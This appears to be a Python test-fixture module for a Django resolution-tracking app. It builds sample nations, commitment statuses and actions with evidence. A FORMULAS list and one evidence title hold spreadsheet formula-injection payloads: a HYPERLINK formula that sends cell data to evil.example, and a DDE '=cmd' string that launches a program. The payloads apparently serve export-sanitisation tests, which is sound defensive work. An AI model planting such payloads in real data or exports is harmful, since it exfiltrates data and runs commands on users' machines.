"""The world the status-report tests read back: Resolution 493 with several nations, statuses of
several kinds, and accepted, submitted and draft actions with file and link evidence."""

import datetime
from dataclasses import dataclass

from django.core.files.uploadedfile import SimpleUploadedFile

from resolutions import actions
from resolutions.models import Member, NationalAction

from .conftest import make_action, minimal_pdf

# Cells whose text a spreadsheet would run as a formula if written as is.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2", "@SUM(A1:A9)", "\tx"]


@dataclass
class World:
    resolution: object
    c25a: object
    c25e: object
    accepted_ca: NationalAction
    draft_ca: NationalAction
    submitted_fr: NationalAction
    draft_fr: NationalAction
    accepted_de: NationalAction
    file_sha: str
    link_url: str = "https://www.parl.gc.ca/bill/C-34"


def member(code):
    return Member.objects.get(country=code)


def _file(text):
    return SimpleUploadedFile("proof.pdf", minimal_pdf(text), content_type="application/pdf")


def _status(commitment, code, value, by, justification=""):
    actions.set_status(commitment, member(code), value, justification, version=0, by=by)


def build_world(resolution, *, editor_ca, editor_fr, secretary, admin_user) -> World:
    c25a = resolution.commitments.get(label="25.a")
    c25e = resolution.commitments.get(label="25.e")
    _status(c25e, "CA", "implemented", editor_ca, "Export Control Act 2025 in force since 1 March")
    _status(c25e, "FR", "in_progress", editor_fr, "Bill before the Sénat")
    _status(c25e, "IT", "partial", admin_user, "Guidance only")
    _status(c25a, "DE", "not_applicable", admin_user, "No export industry in scope")

    accepted_ca = make_action(
        c25e, member("CA"), editor_ca,
        title="Export Control Act amended", date=datetime.date(2025, 3, 1),
    )  # fmt: skip
    file_evidence = actions.add_evidence_file(
        accepted_ca, _file("ca"), {"title": "Canada Gazette extract"}, by=editor_ca
    )
    actions.add_evidence_link(
        accepted_ca, World.link_url, {"title": "Bill C-34 record"}, by=editor_ca
    )
    actions.submit_action(accepted_ca, by=editor_ca)
    actions.accept_action(accepted_ca, by=secretary)

    draft_ca = make_action(c25e, member("CA"), editor_ca, title="CA draft: chip guidance")
    actions.add_evidence_file(draft_ca, _file("ca-draft"), {"title": "CA draft memo"}, by=editor_ca)

    submitted_fr = make_action(
        c25e, member("FR"), editor_fr, title="Loi de programmation militaire",
        action_type="funding", actor="government", stage="under_way",
    )  # fmt: skip
    actions.add_evidence_link(
        submitted_fr, "https://www.legifrance.gouv.fr/loi-2025", {"title": "Légifrance"},
        by=editor_fr,
    )  # fmt: skip
    actions.submit_action(submitted_fr, by=editor_fr)

    draft_fr = make_action(c25e, member("FR"), editor_fr, title="FR brouillon confidentiel")

    accepted_de = make_action(c25a, member("DE"), admin_user, title="Bundestag hearing on leakage")
    actions.add_evidence_link(
        accepted_de, "https://www.bundestag.de/hearing", {"title": "Hearing record"}, by=admin_user
    )
    actions.submit_action(accepted_de, by=admin_user)
    actions.accept_action(accepted_de, by=secretary)

    return World(
        resolution=resolution,
        c25a=c25a,
        c25e=c25e,
        accepted_ca=NationalAction.objects.get(pk=accepted_ca.pk),
        draft_ca=draft_ca,
        submitted_fr=NationalAction.objects.get(pk=submitted_fr.pk),
        draft_fr=draft_fr,
        accepted_de=NationalAction.objects.get(pk=accepted_de.pk),
        file_sha=file_evidence.sha256,
    )


def add_formula_actions(commitment, by_editor, code="CA", *, submit_by=None):
    """Actions whose titles (and one evidence title) begin like formulas, submitted so that
    every signed-in reader sees them."""
    made = []
    for title in FORMULAS:
        action = make_action(commitment, member(code), by_editor, title=title, description="=1+1")
        if not made:
            actions.add_evidence_link(
                action, "https://example.org/x", {"title": "=cmd|' /C calc'!A0"}, by=by_editor
            )
        actions.submit_action(action, by=by_editor)
        made.append(action)
    return made


def add_actions(resolution, per_commitment, by):
    """`per_commitment` submitted actions with a link each, on every commitment, for CA, FR, DE
    (`by` an administrator, who may act for every nation)."""
    for commitment in resolution.commitments.all():
        for code in ("CA", "FR", "DE"):
            for index in range(per_commitment):
                action = make_action(
                    commitment, Member.objects.get(country=code), by, title=f"A{index}"
                )
                actions.add_evidence_link(action, "https://example.org/e", {}, by=by)
                actions.submit_action(action, by=by)
